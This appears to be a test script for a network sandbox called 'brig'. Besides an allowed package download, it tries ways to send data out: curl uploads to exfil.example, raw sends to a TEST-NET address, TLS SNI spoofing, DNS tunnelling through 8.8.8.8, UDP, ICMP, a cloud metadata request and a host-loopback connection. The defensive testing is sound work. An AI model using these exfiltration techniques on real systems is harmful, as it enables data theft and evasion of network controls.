#!/bin/sh
# egress.sh — the network half of the demo: a package download that is
# allowed, and the ways a hostile program would try to send data anywhere
# else, including programs that ignore HTTP_PROXY. demo/run-demo runs it in
# brig with one allowed host, pkg.demo (a server on the host's loopback),
# and no --net: allow rules mean filtered mode, where the kernel sends every
# TCP connection and DNS question inside to brig.
#
# Prints "ATTEMPT ...: BLOCKED|SUCCEEDED" and "WORK ...: OK|FAILED" lines
# like untrusted.sh. Gets DEMO_PKG_PORT (pkg.demo's port) and DEMO_PORT
# (the host's trap listener on 127.0.0.1).

set -u
succeeded=0
attempts=0
blocked() { attempts=$((attempts + 1)); echo "ATTEMPT $1: BLOCKED ($2)"; }
succeeded() { attempts=$((attempts + 1)); succeeded=$((succeeded + 1)); echo "ATTEMPT $1: SUCCEEDED (!!) $2"; }

# -- the real work: the allowed download, through the proxy and without it ---
if out=$(curl -sS -m 20 "http://pkg.demo:$DEMO_PKG_PORT/pkg.txt" 2>&1) && [ "$out" = "package 1.0" ]; then
        echo "WORK download pkg.demo through HTTP_PROXY: OK"
else
        echo "WORK download pkg.demo through HTTP_PROXY: FAILED ($out)"
        succeeded=$((succeeded + 1))
fi
if out=$(curl -sS -m 20 --noproxy '*' "http://pkg.demo:$DEMO_PKG_PORT/pkg.txt" 2>&1) && [ "$out" = "package 1.0" ]; then
        echo "WORK download pkg.demo ignoring the proxy (own DNS, direct connect): OK"
else
        echo "WORK download pkg.demo ignoring the proxy (own DNS, direct connect): FAILED ($out)"
        succeeded=$((succeeded + 1))
fi

# -- exfiltration attempts ----------------------------------------------------
# A made-up name in a documentation domain: refused by name, never looked up.
if out=$(curl -sS -m 10 --noproxy '*' http://exfil.example/upload 2>&1); then
        succeeded "upload to exfil.example ignoring the proxy" "$out"
else
        blocked "upload to exfil.example ignoring the proxy" "$(echo "$out" | head -n 1 | sed 's/^curl: //')"
fi
if out=$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://exfil.example/upload 2>&1) && [ "$out" != 403 ]; then
        succeeded "upload to exfil.example through the proxy" "HTTP $out"
else
        blocked "upload to exfil.example through the proxy" "HTTP 403 from brig's proxy"
fi
# Hard-coded addresses (TEST-NET: nothing answers there, and brig refuses
# before it would try), a TLS hello naming the allowed host sent elsewhere,
# DNS tunnelling, UDP, ICMP, the cloud metadata service, the host's loopback.
python3 - "$DEMO_PORT" <<'PY'
import socket, ssl, struct, sys
def attempt(what, fn):
    try:
        r = fn()
        print("ATTEMPT %s: SUCCEEDED (!!) %s" % (what, r))
    except Exception as e:
        why = e.strerror if getattr(e, "strerror", None) else str(e)
        print("ATTEMPT %s: BLOCKED (%s)" % (what, type(e).__name__ + (": " + why if why else "")))
def raw(addr, port, payload=b"secret"):
    s = socket.create_connection((addr, port), timeout=5)
    s.sendall(payload)
    d = s.recv(200)
    if not d:
        raise ConnectionResetError(104, "closed by brig")
    if d.startswith(b"HTTP/1.1 403") and b"X-Brig-Deny" in d:
        raise PermissionError(13, "HTTP 403 from brig")
    return d
def spoofed_sni():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    s = ctx.wrap_socket(socket.create_connection(("192.0.2.10", 443), timeout=5), server_hostname="pkg.demo")
    return s.version()
def dns_tunnel():
    name = b"".join(bytes([len(l)]) + l for l in [b"c2VjcmV0LWRhdGEtaGVyZQ", b"exfil", b"example"]) + b"\x00"
    q = bytes.fromhex("beef01000001000000000000") + name + b"\x00\x10\x00\x01"   # TXT
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, ("8.8.8.8", 53))
    a = s.recv(512)
    if a[3] & 15 == 3:
        raise LookupError("NXDOMAIN from brig's DNS stub, the question went nowhere")
    return a
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"secret", ("192.0.2.10", 9999))
    return "sent"
def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\x00\x00\x00\x00\x00\x00\x00", ("192.0.2.10", 0))
    return "sent"
attempt("send to a hard-coded address 192.0.2.10:4444", lambda: raw("192.0.2.10", 4444))
attempt("TLS to 192.0.2.10 naming the allowed host (SNI spoofing)", spoofed_sni)
attempt("data in a DNS question to 8.8.8.8", dns_tunnel)
attempt("UDP datagram to 192.0.2.10", udp)
attempt("ICMP echo", icmp)
attempt("cloud metadata 169.254.169.254", lambda: raw("169.254.169.254", 80, b"GET / HTTP/1.0\r\n\r\n"))
attempt("the host's 127.0.0.1:%s" % sys.argv[1], lambda: raw("127.0.0.1", int(sys.argv[1])))
PY
echo "DONE egress: $attempts shell attempts, $succeeded succeeded"
[ "$succeeded" = 0 ]
